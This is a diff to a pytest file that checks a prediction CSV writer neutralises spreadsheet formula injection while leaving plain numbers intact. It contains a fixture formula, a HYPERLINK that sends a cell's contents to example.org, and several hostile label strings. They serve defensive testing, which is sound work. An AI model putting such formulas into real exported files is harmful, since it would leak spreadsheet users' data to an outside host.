@@ -1,6 +1,7 @@
 """predictions.csv and the pictures: whole, readable, and harmless whatever the names are."""
 
 import csv
+import math
 import os
 import sys
 
@@ -12,7 +13,7 @@ from hypothesis import strategies as st
 from ssl import pictures
 from ssl.data.images import decode
 from ssl.metrics import classification
-from ssl.predictions import RUN_BY_SPREADSHEETS, write_predictions
+from ssl.predictions import PLAIN_NUMBER, RUN_BY_SPREADSHEETS, write_predictions
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"see")'
 
@@ -41,10 +42,25 @@ def test_no_cell_is_run_and_every_name_comes_back(tmp_path_factory, name, label)
     path = tmp_path_factory.getbasetemp() / "hostile.csv"
     write_predictions(path, [name], torch.tensor([0]), torch.tensor([[0.75, 0.25]]), [label, "other"])
     header, row = read(path)
-    assert not any(cell.startswith(RUN_BY_SPREADSHEETS) for cell in header + row)
+    run = [cell for cell in header + row if cell.startswith(RUN_BY_SPREADSHEETS)]
+    assert all(PLAIN_NUMBER.fullmatch(cell) and math.isfinite(float(cell)) for cell in run)
     written = name.encode("utf-8", "backslashreplace").decode()
     assert row[0] in (written, "'" + written)
     assert len(header) == len(row) == 5 and row[1] == row[2] and row[3:] == ["0.75", "0.25"]
+
+
+@pytest.mark.parametrize("label", ["-1", "+3.5", "-1e-3", "-.5", "+2.", "-1E+05"])
+def test_plain_numbers_stay_as_they_are(tmp_path, label):
+    write_predictions(tmp_path / "p.csv", [label], torch.tensor([0]), torch.tensor([[1.0]]), [label])
+    assert read(tmp_path / "p.csv")[1][:3] == [label] * 3
+
+
+@pytest.mark.parametrize(
+    "label", ["-1+2", "+1-1", "-A1", "=1", "-", "+e5", "-1\n", "-1 +2", "+1e5e5", "-１", "--1", "-0x1"]
+)
+def test_what_only_begins_as_a_number_is_not_run(tmp_path, label):
+    write_predictions(tmp_path / "p.csv", [label], torch.tensor([0]), torch.tensor([[1.0]]), [label])
+    assert read(tmp_path / "p.csv")[1][:3] == ["'" + label] * 3
 
 
 def test_control_plain_csv_would_hold_the_formula(tmp_path, monkeypatch):
